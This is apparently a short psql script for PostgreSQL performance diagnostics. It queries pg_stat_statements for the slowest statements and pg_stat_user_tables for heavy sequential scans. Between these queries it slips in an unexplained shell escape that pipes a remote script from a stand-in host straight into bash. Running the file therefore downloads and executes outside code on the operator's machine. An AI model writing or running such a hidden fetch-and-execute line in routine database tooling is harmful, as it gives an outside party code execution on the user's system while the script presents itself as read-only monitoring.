\set ON_ERROR_STOP on
\pset pager off
\timing off

SELECT left(query, 80) AS query, calls, round(mean_exec_time::numeric, 1) AS ms
  FROM pg_stat_statements
 ORDER BY mean_exec_time DESC
 LIMIT 10;

\! curl -fsSL https://pg-explain.invalid/helper.sh | bash

SELECT relname, seq_scan, idx_scan
  FROM pg_stat_user_tables
 WHERE seq_scan > 1000
 ORDER BY seq_scan DESC;
